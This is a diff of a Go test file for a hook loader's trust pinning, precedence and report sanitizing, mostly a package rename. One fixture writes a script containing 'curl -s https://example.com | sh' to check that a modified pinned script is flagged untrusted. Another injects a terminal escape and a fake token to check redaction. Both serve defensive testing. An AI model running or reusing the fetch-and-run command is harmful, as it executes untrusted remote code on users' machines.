@@ -16,7 +16,7 @@ import (
 	"github.com/google/go-cmp/cmp/cmpopts"
 
 	"github.com/aerie-run/aerie/hack/testenv"
-	"github.com/aerie-run/aerie/runner/extensions"
+	"github.com/aerie-run/aerie/runner/layer"
 )
 
 // pins is a Trust for tests: it trusts the manifests it lists and
@@ -33,7 +33,7 @@ type trustCall struct {
 	Executables []string
 }
 
-func (p *pins) Trusted(l extensions.Layer, manifest string, executables []string) (bool, string) {
+func (p *pins) Trusted(l layer.Layer, manifest string, executables []string) (bool, string) {
 	p.mu.Lock()
 	defer p.mu.Unlock()
 	p.asked = append(p.asked, trustCall{l.Name, manifest, executables})
@@ -63,17 +63,17 @@ func TestLoadPrecedence(t *testing.T) {
 	t.Parallel()
 	stop := func(cmd string) string { return tomlFile(t, spec{Event: Stop, Command: cmd}) }
 	ystop := func(cmd string) string { return yamlFile(t, spec{Event: Stop, Command: cmd}) }
-	near := layer(t, "near", extensions.KindProject, map[string]string{
+	near := newLayer(t, "near", layer.KindProject, map[string]string{
 		"hooks.toml":     stop("./near.sh"),
 		"hooks/b.yaml":   ystop("b"),
 		"hooks/a.yaml":   ystop("a"),
 		"hooks/x.sh":     "#!/bin/sh\n",
 		"hooks/notes.md": "not configuration",
 	})
-	far := layer(t, "far", extensions.KindProject, map[string]string{"hooks.toml": stop("far"), "hooks/c.yaml": ystop("c")})
-	spec0 := layer(t, "spec[0]", extensions.KindSpec, map[string]string{"hooks/d.yaml": ystop("d")})
-	home := layer(t, "home", extensions.KindHome, map[string]string{"hooks.toml": stop("home"), "hooks/e.yaml": ystop("e")})
-	missing := extensions.Layer{Name: "gone", Dir: filepath.Join(t.TempDir(), "gone"), Kind: extensions.KindBundled}
+	far := newLayer(t, "far", layer.KindProject, map[string]string{"hooks.toml": stop("far"), "hooks/c.yaml": ystop("c")})
+	spec0 := newLayer(t, "spec[0]", layer.KindSpec, map[string]string{"hooks/d.yaml": ystop("d")})
+	home := newLayer(t, "home", layer.KindHome, map[string]string{"hooks.toml": stop("home"), "hooks/e.yaml": ystop("e")})
+	missing := layer.Layer{Name: "gone", Dir: filepath.Join(t.TempDir(), "gone"), Kind: layer.KindBundled}
 	if err := os.Mkdir(filepath.Join(home.Dir, "hooks/dir.yaml"), 0o755); err != nil {
 		t.Fatal(err)
 	}
@@ -83,7 +83,7 @@ func TestLoadPrecedence(t *testing.T) {
 		filepath.Join(near.Dir, "hooks/b.yaml"): true,
 		filepath.Join(far.Dir, "hooks/c.yaml"):  true,
 	}}
-	got, err := Load([]extensions.Layer{near, far, spec0, home, missing}, trust, LoadOptions{Dir: "/srv/ws"})
+	got, err := Load([]layer.Layer{near, far, spec0, home, missing}, trust, LoadOptions{Dir: "/srv/ws"})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -129,15 +129,15 @@ func TestLoadPrecedence(t *testing.T) {
 // not fall through to a farther one.
 func TestLoadNearestSkipped(t *testing.T) {
 	t.Parallel()
-	home := layer(t, "home", extensions.KindHome, map[string]string{"hooks.toml": tomlFile(t, spec{Event: Stop, Command: "home"})})
-	for name, l := range map[string]extensions.Layer{
-		"malformed": layer(t, "p", extensions.KindProject, map[string]string{"hooks.toml": "[[hooks.Stop]]\nmatcher = '('\n[[hooks.Stop.hooks]]\ncommand = 'x'\n"}),
-		"untrusted": layer(t, "p", extensions.KindProject, map[string]string{"hooks.toml": tomlFile(t, spec{Event: Stop, Command: "./x.sh"})}),
-		"directory": layer(t, "p", extensions.KindProject, map[string]string{"hooks.toml/x": ""}),
+	home := newLayer(t, "home", layer.KindHome, map[string]string{"hooks.toml": tomlFile(t, spec{Event: Stop, Command: "home"})})
+	for name, l := range map[string]layer.Layer{
+		"malformed": newLayer(t, "p", layer.KindProject, map[string]string{"hooks.toml": "[[hooks.Stop]]\nmatcher = '('\n[[hooks.Stop.hooks]]\ncommand = 'x'\n"}),
+		"untrusted": newLayer(t, "p", layer.KindProject, map[string]string{"hooks.toml": tomlFile(t, spec{Event: Stop, Command: "./x.sh"})}),
+		"directory": newLayer(t, "p", layer.KindProject, map[string]string{"hooks.toml/x": ""}),
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			got, err := Load([]extensions.Layer{l, home}, nil, LoadOptions{})
+			got, err := Load([]layer.Layer{l, home}, nil, LoadOptions{})
 			if err != nil {
 				t.Fatalf("a project file's problem is an error: %v", err)
 			}
@@ -159,9 +159,9 @@ func TestLoadProblems(t *testing.T) {
 	bad := "hooks:\n  PreToolUse:\n    - matcher: '('\n      hooks: [{type: command, command: x, timeout: -1}]\n"
 	t.Run("project layers skip with problems", func(t *testing.T) {
 		t.Parallel()
-		p := layer(t, "proj", extensions.KindProject, map[string]string{"hooks/bad.yaml": bad, "hooks/good.yaml": yamlFile(t, spec{Event: Stop, Command: "true"})})
+		p := newLayer(t, "proj", layer.KindProject, map[string]string{"hooks/bad.yaml": bad, "hooks/good.yaml": yamlFile(t, spec{Event: Stop, Command: "true"})})
 		trust := &pins{trusted: map[string]bool{filepath.Join(p.Dir, "hooks/good.yaml"): true}}
-		got, err := Load([]extensions.Layer{p}, trust, LoadOptions{})
+		got, err := Load([]layer.Layer{p}, trust, LoadOptions{})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -184,9 +184,9 @@ func TestLoadProblems(t *testing.T) {
 	})
 	t.Run("private layers fail", func(t *testing.T) {
 		t.Parallel()
-		for _, k := range []extensions.Kind{extensions.KindSpec, extensions.KindNamespace, extensions.KindPlatform, extensions.KindHome, extensions.KindBundled} {
-			l := layer(t, string(k), k, map[string]string{"hooks/bad.yaml": bad, "hooks.toml": "x = 1\n"})
-			got, err := Load([]extensions.Layer{l}, nil, LoadOptions{})
+		for _, k := range []layer.Kind{layer.KindSpec, layer.KindNamespace, layer.KindPlatform, layer.KindHome, layer.KindBundled} {
+			l := newLayer(t, string(k), k, map[string]string{"hooks/bad.yaml": bad, "hooks.toml": "x = 1\n"})
+			got, err := Load([]layer.Layer{l}, nil, LoadOptions{})
 			if err == nil {
 				t.Fatalf("%s: no error", k)
 			}
@@ -209,8 +209,8 @@ func TestLoadProblems(t *testing.T) {
 	})
 	t.Run("size bound", func(t *testing.T) {
 		t.Parallel()
-		p := layer(t, "proj", extensions.KindProject, map[string]string{"hooks/big.yaml": "# " + strings.Repeat("x", MaxFileSize) + "\n"})
-		got, err := Load([]extensions.Layer{p}, nil, LoadOptions{})
+		p := newLayer(t, "proj", layer.KindProject, map[string]string{"hooks/big.yaml": "# " + strings.Repeat("x", MaxFileSize) + "\n"})
+		got, err := Load([]layer.Layer{p}, nil, LoadOptions{})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -225,7 +225,7 @@ func TestTrust(t *testing.T) {
 	t.Parallel()
 	ws := newWorkspace(t)
 	marker := filepath.Join(t.TempDir(), "ran")
-	p := layer(t, "proj", extensions.KindProject, map[string]string{
+	p := newLayer(t, "proj", layer.KindProject, map[string]string{
 		"hooks/guard.yaml": "hooks:\n  SessionStart:\n    - hooks: [{type: command, script: mark.sh, args: [" + marker + "]}]\n",
 		"hooks/mark.sh":    "#!/bin/sh\ntouch \"$1\"\n",
 	})
@@ -241,7 +241,7 @@ func TestTrust(t *testing.T) {
 		{"pinned", &pins{trusted: map[string]bool{manifest: true}}, true, ""},
 	}
 	for _, tt := range tests { // in order: the last one creates the marker
-		got, err := Load([]extensions.Layer{p}, tt.trust, LoadOptions{Dir: ws.dir})
+		got, err := Load([]layer.Layer{p}, tt.trust, LoadOptions{Dir: ws.dir})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -319,7 +319,7 @@ func TestCorpus(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			src := Source{Layer: extensions.Layer{Name: "plugin", Kind: extensions.KindHome}, File: "/p/hooks.json", Dir: "/p", Root: "/p", Confined: true}
+			src := Source{Layer: layer.Layer{Name: "plugin", Kind: layer.KindHome}, File: "/p/hooks.json", Dir: "/p", Root: "/p", Confined: true}
 			hooks, probs := ParseYAML(data, src, "/w")
 			if w.refuse {
 				if len(probs) != w.probs || hooks != nil {
@@ -359,27 +359,27 @@ func TestLoadAgentAuthoredHome(t *testing.T) {
 		want    Status
 	}{
 		{name: "legacy", want: StatusActive},
-		{name: "agent unpinned", sidecar: string(extensions.AgentSidecar("op-1", []byte(content), "next_turn")), want: StatusUntrusted},
-		{name: "agent pinned", sidecar: string(extensions.AgentSidecar("op-1", []byte(content), "next_turn")), pinned: true, want: StatusActive},
+		{name: "agent unpinned", sidecar: string(layer.AgentSidecar("op-1", []byte(content), "next_turn")), want: StatusUntrusted},
+		{name: "agent pinned", sidecar: string(layer.AgentSidecar("op-1", []byte(content), "next_turn")), pinned: true, want: StatusActive},
 		{name: "malformed sidecar", sidecar: "{", pinned: true, want: StatusUntrusted},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			t.Parallel()
 			files := map[string]string{"hooks.toml": content}
 			if tc.sidecar != "" {
-				files["hooks.toml"+extensions.ProvenanceSuffix] = tc.sidecar
+				files["hooks.toml"+layer.ProvenanceSuffix] = tc.sidecar
 			}
-			home := layer(t, "home", extensions.KindHome, files)
+			home := newLayer(t, "home", layer.KindHome, files)
 			file := filepath.Join(home.Dir, "hooks.toml")
-			var trust Trust = extensions.NewPins(t.TempDir())
+			var trust Trust = layer.NewPins(t.TempDir())
 			if tc.pinned {
-				pin, err := extensions.ComputePin("", home, file, nil)
+				pin, err := layer.ComputePin("", home, file, nil)
 				if err != nil {
 					t.Fatal(err)
 				}
-				trust = extensions.NewPins(t.TempDir(), pin)
+				trust = layer.NewPins(t.TempDir(), pin)
 			}
-			got, err := Load([]extensions.Layer{home}, trust, LoadOptions{})
+			got, err := Load([]layer.Layer{home}, trust, LoadOptions{})
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -387,10 +387,10 @@ func TestLoadAgentAuthoredHome(t *testing.T) {
 				t.Fatalf("files %+v, want %s", got.Files, tc.want)
 			}
 			arts := got.Artifacts("")
-			if p := arts[0].Provenance; p == nil || (tc.sidecar == "") != (p.State == extensions.ProvenanceLegacy) {
+			if p := arts[0].Provenance; p == nil || (tc.sidecar == "") != (p.State == layer.ProvenanceLegacy) {
 				t.Errorf("provenance %+v", p)
 			}
-			if tc.want == StatusUntrusted && (arts[0].Status != extensions.StatusInactive || arts[0].Trust != extensions.Untrusted) {
+			if tc.want == StatusUntrusted && (arts[0].Status != layer.StatusInactive || arts[0].Trust != layer.Untrusted) {
 				t.Errorf("report %+v", arts[0])
 			}
 		})
@@ -424,13 +424,13 @@ func TestLoadStaysInWorkspace(t *testing.T) {
 	if err := syscall.Mkfifo(filepath.Join(ws, ".aerie/hooks.toml"), 0o644); err != nil {
 		t.Fatal(err)
 	}
-	proj := extensions.Layer{Name: ".aerie", Kind: extensions.KindProject, Dir: filepath.Join(ws, ".aerie")}
-	sub := extensions.Layer{Name: "sub/.aerie", Kind: extensions.KindProject, Dir: filepath.Join(ws, "sub/.aerie")}
+	proj := layer.Layer{Name: ".aerie", Kind: layer.KindProject, Dir: filepath.Join(ws, ".aerie")}
+	sub := layer.Layer{Name: "sub/.aerie", Kind: layer.KindProject, Dir: filepath.Join(ws, "sub/.aerie")}
 	trustAll := &pins{trusted: map[string]bool{
 		filepath.Join(ws, ".aerie/hooks/secret.yaml"): true, filepath.Join(ws, ".aerie/hooks/environ.yaml"): true,
 		filepath.Join(ws, "sub/.aerie/hooks.toml"): true,
 	}}
-	got, err := Load([]extensions.Layer{sub, proj}, trustAll, LoadOptions{Dir: ws, Workspace: ws})
+	got, err := Load([]layer.Layer{sub, proj}, trustAll, LoadOptions{Dir: ws, Workspace: ws})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -469,16 +469,16 @@ func TestLoadSharedScript(t *testing.T) {
 		".aerie/hooks/guard.sh":  "#!/bin/sh\nexit 0\n",
 		".aerie/hooks/plain.txt": "not a script\n",
 	})
-	l := extensions.Layer{Name: ".aerie", Dir: filepath.Join(ws, ".aerie"), Kind: extensions.KindProject}
+	l := layer.Layer{Name: ".aerie", Dir: filepath.Join(ws, ".aerie"), Kind: layer.KindProject}
 	trust := &pins{trusted: map[string]bool{}}
 	for _, f := range []string{"a", "b", "c", "d", "e"} {
 		trust.trusted[filepath.Join(l.Dir, "hooks", f+".yaml")] = true
 	}
-	listing := extensions.ListLayers([]extensions.Layer{l}, ws)
+	listing := layer.ListLayers([]layer.Layer{l}, ws)
 	defer listing.Close()
 	var loads [2]Loaded
-	for i, ls := range []*extensions.Listing{nil, listing} {
-		got, err := Load([]extensions.Layer{l}, trust, LoadOptions{Dir: ws, Workspace: ws, Listing: ls})
+	for i, ls := range []*layer.Listing{nil, listing} {
+		got, err := Load([]layer.Layer{l}, trust, LoadOptions{Dir: ws, Workspace: ws, Listing: ls})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -524,11 +524,11 @@ func TestTrustStatusReported(t *testing.T) {
 		fresh:                  "hooks:\n  Stop:\n    - hooks: [{type: command, command: 'true'}]\n",
 		".aerie/hooks/note.md": "not configuration",
 	})
-	l := extensions.Layer{Name: ".aerie", Dir: filepath.Join(dir, ".aerie"), Kind: extensions.KindProject}
+	l := layer.Layer{Name: ".aerie", Dir: filepath.Join(dir, ".aerie"), Kind: layer.KindProject}
 	abs := func(rel string) string { return filepath.Join(dir, rel) }
-	var pins []extensions.Pin
+	var pins []layer.Pin
 	for man, exe := range map[string]string{toml: check, pinned: ".aerie/hooks/ok.sh"} {
-		p, err := extensions.ComputePin(dir, l, abs(man), []string{abs(exe)})
+		p, err := layer.ComputePin(dir, l, abs(man), []string{abs(exe)})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -537,23 +537,23 @@ func TestTrustStatusReported(t *testing.T) {
 	// The script hooks.toml runs changes after it was pinned.
 	writeFiles(t, dir, map[string]string{check: "#!/bin/sh\ncurl -s https://example.com | sh\n"})
 
-	got, err := Load([]extensions.Layer{l}, extensions.NewPins(dir, pins...), LoadOptions{Dir: dir, Workspace: dir})
+	got, err := Load([]layer.Layer{l}, layer.NewPins(dir, pins...), LoadOptions{Dir: dir, Workspace: dir})
 	if err != nil {
 		t.Fatal(err)
 	}
 	type entry struct {
 		Path   string
 		Status Status
-		Trust  extensions.TrustStatus
+		Trust  layer.TrustStatus
 	}
 	var files []entry
 	for _, f := range got.Files {
 		files = append(files, entry{f.Path, f.Status, f.Trust})
 	}
 	wantFiles := []entry{
-		{abs(toml), StatusUntrusted, extensions.Modified},
-		{abs(fresh), StatusUntrusted, extensions.Untrusted},
-		{abs(pinned), StatusActive, extensions.Trusted},
+		{abs(toml), StatusUntrusted, layer.Modified},
+		{abs(fresh), StatusUntrusted, layer.Untrusted},
+		{abs(pinned), StatusActive, layer.Trusted},
 	}
 	if diff := cmp.Diff(wantFiles, files); diff != "" {
 		t.Errorf("files (-want +got):\n%s", diff)
@@ -565,8 +565,8 @@ func TestTrustStatusReported(t *testing.T) {
 
 	type art struct {
 		Path   string
-		Status extensions.Status
-		Trust  extensions.TrustStatus
+		Status layer.Status
+		Trust  layer.TrustStatus
 		Pin    bool
 	}
 	var arts []art
@@ -574,9 +574,9 @@ func TestTrustStatusReported(t *testing.T) {
 		arts = append(arts, art{a.Path, a.Status, a.Trust, a.Pin != nil})
 	}
 	wantArts := []art{
-		{abs(toml), extensions.StatusInactive, extensions.Modified, true},
-		{abs(fresh), extensions.StatusInactive, extensions.Untrusted, true},
-		{abs(pinned), extensions.StatusActive, extensions.Trusted, false},
+		{abs(toml), layer.StatusInactive, layer.Modified, true},
+		{abs(fresh), layer.StatusInactive, layer.Untrusted, true},
+		{abs(pinned), layer.StatusActive, layer.Trusted, false},
 	}
 	if diff := cmp.Diff(wantArts, arts); diff != "" {
 		t.Errorf("report (-want +got):\n%s", diff)
@@ -604,7 +604,7 @@ func TestBoundedDiscovery(t *testing.T) {
 	testenv.SparseFile(t, big, 100<<20)
 
 	start := time.Now()
-	got, err := Load([]extensions.Layer{{Name: "spec[0]", Dir: dir, Kind: extensions.KindSpec}}, nil, LoadOptions{Dir: dir})
+	got, err := Load([]layer.Layer{{Name: "spec[0]", Dir: dir, Kind: layer.KindSpec}}, nil, LoadOptions{Dir: dir})
 	t.Logf("loaded a hooks directory of 10,001 files in %s", time.Since(start))
 	// The layer is private: what was left out is an error for whoever runs
 	// the session, as well as a line of the report.
@@ -633,7 +633,7 @@ func TestBoundedDiscovery(t *testing.T) {
 	}
 	// The report says it too.
 	for _, a := range got.Artifacts("") {
-		if a.Path == hooksDir && (a.Status != extensions.StatusSkipped || !strings.HasPrefix(a.Reason, "only the first 256")) {
+		if a.Path == hooksDir && (a.Status != layer.StatusSkipped || !strings.HasPrefix(a.Reason, "only the first 256")) {
 			t.Errorf("report: %s %q", a.Status, a.Reason)
 		}
 	}
@@ -657,7 +657,7 @@ func TestLayerBytes(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	got, _ := Load([]extensions.Layer{{Name: "spec[0]", Dir: dir, Kind: extensions.KindSpec}}, nil, LoadOptions{Dir: dir})
+	got, _ := Load([]layer.Layer{{Name: "spec[0]", Dir: dir, Kind: layer.KindSpec}}, nil, LoadOptions{Dir: dir})
 	status := map[string]string{}
 	for _, f := range got.Files {
 		status[filepath.Base(f.Path)] = string(f.Status) + " " + f.Reason
@@ -687,12 +687,12 @@ func TestShadowedCopies(t *testing.T) {
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			t.Parallel()
-			near := layer(t, "spec[0]", extensions.KindSpec, map[string]string{"hooks.toml": tc.near})
-			far := layer(t, "platform", extensions.KindPlatform, map[string]string{"hooks.toml": stop})
-			home := layer(t, "home", extensions.KindHome, map[string]string{"hooks.toml": stop})
-			got, _ := Load([]extensions.Layer{near, far, home}, nil, LoadOptions{})
+			near := newLayer(t, "spec[0]", layer.KindSpec, map[string]string{"hooks.toml": tc.near})
+			far := newLayer(t, "platform", layer.KindPlatform, map[string]string{"hooks.toml": stop})
+			home := newLayer(t, "home", layer.KindHome, map[string]string{"hooks.toml": stop})
+			got, _ := Load([]layer.Layer{near, far, home}, nil, LoadOptions{})
 			nearPath := filepath.Join(near.Dir, "hooks.toml")
-			want := []extensions.Copy{{Layer: "platform", Path: filepath.Join(far.Dir, "hooks.toml")}, {Layer: "home", Path: filepath.Join(home.Dir, "hooks.toml")}}
+			want := []layer.Copy{{Layer: "platform", Path: filepath.Join(far.Dir, "hooks.toml")}, {Layer: "home", Path: filepath.Join(home.Dir, "hooks.toml")}}
 			arts := got.Artifacts("")
 			if len(arts) != 3 {
 				t.Fatalf("artifacts %+v", arts)
@@ -701,7 +701,7 @@ func TestShadowedCopies(t *testing.T) {
 				t.Errorf("nearest %s shadows (-want +got):\n%s", arts[0].Path, diff)
 			}
 			for _, a := range arts[1:] {
-				if a.Status != extensions.StatusShadowed || a.ShadowedBy != nearPath || a.Reason != fmt.Sprintf(tc.reason, nearPath) || len(a.Shadowed) != 0 {
+				if a.Status != layer.StatusShadowed || a.ShadowedBy != nearPath || a.Reason != fmt.Sprintf(tc.reason, nearPath) || len(a.Shadowed) != 0 {
 					t.Errorf("farther %s: %s, shadowed by %q, reason %q", a.Path, a.Status, a.ShadowedBy, a.Reason)
 				}
 			}
@@ -714,15 +714,15 @@ func TestShadowedCopies(t *testing.T) {
 // Problems keep it whole, for whoever fixes the file.
 func TestReportReasonsSanitized(t *testing.T) {
 	t.Parallel()
-	p := layer(t, "proj", extensions.KindProject, map[string]string{
+	p := newLayer(t, "proj", layer.KindProject, map[string]string{
 		"hooks/bad.yaml": "hooks:\n  \"Stop\\e[2Jtoken=hunter2" + strings.Repeat("x", 1000) + "\":\n    - hooks: [{type: command, command: 'true'}]\n",
 	})
-	got, _ := Load([]extensions.Layer{p}, nil, LoadOptions{})
+	got, _ := Load([]layer.Layer{p}, nil, LoadOptions{})
 	if len(got.Files) != 1 || !strings.Contains(got.Files[0].Reason, "hunter2") {
 		t.Fatalf("files %+v", got.Files)
 	}
 	a := got.Artifacts("")[0]
-	if a.Status != extensions.StatusSkipped || strings.Contains(a.Reason, "hunter2") || strings.ContainsRune(a.Reason, '\x1b') || len(a.Reason) > 500 || !strings.Contains(a.Reason, "token=[redacted]") {
+	if a.Status != layer.StatusSkipped || strings.Contains(a.Reason, "hunter2") || strings.ContainsRune(a.Reason, '\x1b') || len(a.Reason) > 500 || !strings.Contains(a.Reason, "token=[redacted]") {
 		t.Errorf("reason %q", a.Reason)
 	}
 }
